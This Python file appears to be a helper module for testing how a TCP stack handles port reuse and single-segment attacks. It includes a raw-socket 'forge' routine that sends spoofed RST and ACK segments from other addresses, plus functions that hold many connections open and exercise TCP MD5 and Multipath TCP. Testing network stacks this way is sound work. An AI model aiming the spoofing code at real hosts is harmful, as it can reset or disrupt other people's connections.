"""Attacks by single segments, and ports that are used again. Needs raw.py for the segments."""

SYN, RST, ACK = 2, 4, 16
TCP_MD5SIG, IPPROTO_MPTCP = 14, 262


def bound(source, port, protocol=0):
    made = socket.socket(family_of(source), socket.SOCK_STREAM, protocol)
    made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    made.bind((source, port))
    return made


def dial_again(to, to_port, source, port, close, pause):
    """Connects, closes, and connects again from the same port."""
    first = bound(source, port)
    first.settimeout(5)
    first.connect((to, to_port))
    say({"connected": True})
    await_word()
    if close == "peer first":
        assert not first.recv(10)
    if close == "reset":
        first.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET_AT_CLOSE)
    first.close()
    say({"closed": True})
    await_word()
    time.sleep(pause)
    began, second = time.monotonic(), bound(source, port)
    second.settimeout(10)
    try:
        second.connect((to, to_port))
        error = None
    except OSError as failed:
        error = errno.errorcode.get(failed.errno, str(failed))
    return {"error": error, "waited": time.monotonic() - began}


def close_first(port):
    """A server that closes each connection as soon as it has it."""
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("", port))
    listener.listen(64)
    say({"listening": port})
    while True:
        listener.accept()[0].close()


def wait_on_ports(dead, source, first):
    """Waits on ports that others know."""
    kept = []
    for number, address in enumerate(dead):
        made = bound(source, first + number)
        made.setblocking(False)
        connect(made, address)
        kept.append(made)
    return kept


def wait_and_stay(dead, source, first):
    kept = wait_on_ports(dead, source, first)
    say({"waiting": len(kept)})
    time.sleep(3600)


def forge(dead, to, first, seconds):
    """As if from those that are called: what wakes, and what looks like an answer."""
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent, failed, end = 0, collections.Counter(), time.monotonic() + seconds
    while time.monotonic() < end:
        for flags, acknowledged in ((RST | ACK, 0), (RST | ACK, 0xFFFFFFFF), (RST, 0), (ACK, 1), (RST | ACK, os.getpid())):
            for number, address in enumerate(dead):
                packet = segment(address, to, PORT, flags, first + number, sent & 0xFFFF, acknowledged)
                try:
                    sender.sendto(ip(address, to, packet), (to, 0))
                    sent += 1
                except OSError as error:
                    failed[errno.errorcode[error.errno]] += 1
        time.sleep(0.05)
    return {"sent": sent, "failed": failed}


def forge_in_a_container(dead, first, seconds):
    container()
    kept = wait_on_ports(dead, "10.78.0.2", first)
    return forge(dead, "10.78.0.2", first, seconds) | {"waiting": len(kept)}


def with_key(dead, seconds):
    """Each with a key for whom it calls."""
    def set_key(made, address):
        peer = struct.pack("=HH4s", socket.AF_INET, 0, socket.inet_aton(address)).ljust(128, b"\0")
        made.setsockopt(socket.IPPROTO_TCP, TCP_MD5SIG, peer + struct.pack("BBHI", 0, 0, 3, 0) + b"key".ljust(80, b"\0"))

    kept = []
    for address in dead:
        made = new_socket(address)
        set_key(made, address)
        connect(made, address)
        kept.append(made)
    time.sleep(seconds)
    return {"dialled": len(kept)}


def multipath(dead, seconds):
    return scan(dead, seconds, None, IPPROTO_MPTCP)


def multipath_rounds(to, to_port):
    """A connection of Multipath TCP for each line of the test, all of them kept."""
    kept = []
    while await_word():
        made = socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP)
        made.settimeout(5)
        made.connect((to, to_port))
        made.send(b"x" * 1000)
        kept.append(made)
        time.sleep(0.4)
        say({"connected": len(kept)})


def call_oneself(dead, seconds, source):
    """Simultaneous opens with oneself, which succeed, and then a scan."""
    opened = 0
    for number in range(2000):
        with bound(source, 20000 + number) as made:
            made.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, RESET_AT_CLOSE)
            made.settimeout(1)
            opened += made.connect_ex((source, 20000 + number)) == 0
    return scan(dead, seconds) | {"opened": opened}
